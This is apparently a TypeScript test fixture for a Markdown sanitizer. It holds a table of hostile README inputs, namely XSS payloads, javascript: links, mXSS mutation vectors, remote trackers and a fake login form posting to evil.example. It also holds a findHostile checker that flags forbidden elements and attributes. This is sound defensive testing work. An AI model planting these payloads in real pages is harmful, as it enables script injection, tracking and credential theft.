/** Attempts to run script, load or post something out of a README, by what they try. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  'a script': '# a\n\n<script>window.hostile = true</script>\n',
  'a script in capitals': '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'a script with a broken tag': '<scr<script>ipt>window.hostile = true</script>',
  'an event handler': '<img src=x onerror="window.hostile = true">',
  'a handler split by a slash': '<svg/onload=window.hostile=true>',
  'an animated handler': '<svg><animate onbegin="window.hostile=true" attributeName=x dur=1s>',
  'a toggled handler': '<details open ontoggle="window.hostile=true">x</details>',
  'a javascript link': '[click](javascript:window.hostile=true)',
  'a javascript link in HTML': '<a href="javascript:window.hostile=true">click</a>',
  'a javascript link with a tab': '<a href="java\tscript:window.hostile=true">click</a>',
  'a javascript link with entities': '[click](&#106;avascript:window.hostile=true)',
  'a javascript link in capitals': '[click](  JaVaScRiPt:window.hostile=true)',
  'a javascript autolink': '<javascript:window.hostile=true>',
  'a vbscript link': '[click](vbscript:msgbox)',
  'a data link': '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a data page in an image': '![x](data:text/html,<script>window.hostile=true</script>)',
  'a frame': '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>x</script>">',
  'an object': '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
  'a form':
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  'a button with an action': '<button formaction="javascript:window.hostile=true">x</button>',
  'a style': '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
  'a linked style': '<link rel=stylesheet href="https://evil.example/x.css">',
  'a page that moves': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'another base': '<base href="https://evil.example/">',
  'a remote image': '![tracker](https://evil.example/pixel.gif)',
  'a remote image in a set': '<img srcset="https://evil.example/a.png 1x" alt="x">',
  'a remote image in a picture':
    '<picture><source srcset="https://evil.example/a.png"><img src="a.png"></picture>',
  'a remote poster': '<video poster="https://evil.example/a.png"><source src=x></video>',
  'a remote background': '<table background="https://evil.example/a.png"><tr><td>x</table>',
  'an image without a scheme': '![x](//evil.example/a.png)',
  'names that shadow': '<a id="forms" name="cookie">x</a><img name=body><p id=__proto__>y</p>',
  'a class of ours': '<div class="cpb-root" data-active>x</div>',
  'mXSS through style in math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile=true&gt;">',
  'mXSS through a form in svg':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hostile=true src>">',
  'mXSS through noscript':
    '<noscript><p title="</noscript><img src=x onerror=window.hostile=true>"></noscript>',
  'mXSS through a template': '<template><img src=x onerror=window.hostile=true></template>',
  'mXSS through a title in svg':
    '<svg></p><style><a id="</style><img src=1 onerror=window.hostile=true>">',
  'mXSS through a comment': '<!--><img src=x onerror=window.hostile=true>-->',
  'mXSS through CDATA': '<![CDATA[><img src=x onerror=window.hostile=true>]]>',
  'a handler out of a code block':
    '```"><img src=x onerror=window.hostile=true>\ncode\n```\n`<img src=x onerror=window.hostile=true>`',
  'a handler out of a title':
    '[x](https://a.example "\\"><img src=x onerror=window.hostile=true>")',
  'a handler out of alt text': '![\\"><img src=x onerror=window.hostile=true>](x.png)',
  'a handler in a table': '| a |\n|---|\n| <img src=x onerror=window.hostile=true> |',
  'a custom element': '<x-evil onclick="window.hostile=true" is="x">x</x-evil>',
  'unclosed tags': '<div><a href="javascript:window.hostile=true"><b onclick=',
};

/** What is wrong with nodes that stand in the page; empty when they are harmless. */
export function findHostile(root: ParentNode): string[] {
  const found: string[] = [];
  const forbidden =
    'script, style, link, meta, base, iframe, frame, object, embed, form, input, button, select, textarea, svg, math, template, noscript, video, audio, source, picture, portal';
  for (const element of root.querySelectorAll(forbidden)) found.push(`<${element.localName}>`);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isLink = name === 'href' && /^(?:https?:\/\/|mailto:)/i.test(value);
      const isImage = name === 'src' && /^data:image\//i.test(value);
      const isOurs = name === 'class' && value === 'cpb-visually-hidden';
      const isHarmless =
        /^(?:alt|title|align|colspan|rowspan|start|open|target|rel)$/.test(name) ||
        isLink ||
        isImage ||
        isOurs;
      if (!isHarmless) found.push(`${name}=${value}`);
    }
  }
  for (const link of root.querySelectorAll('a')) {
    if (link.target !== '_blank') found.push(`link without a new tab: ${link.outerHTML}`);
    if (!link.relList.contains('noreferrer')) found.push(`link that tells: ${link.outerHTML}`);
  }
  return found;
}
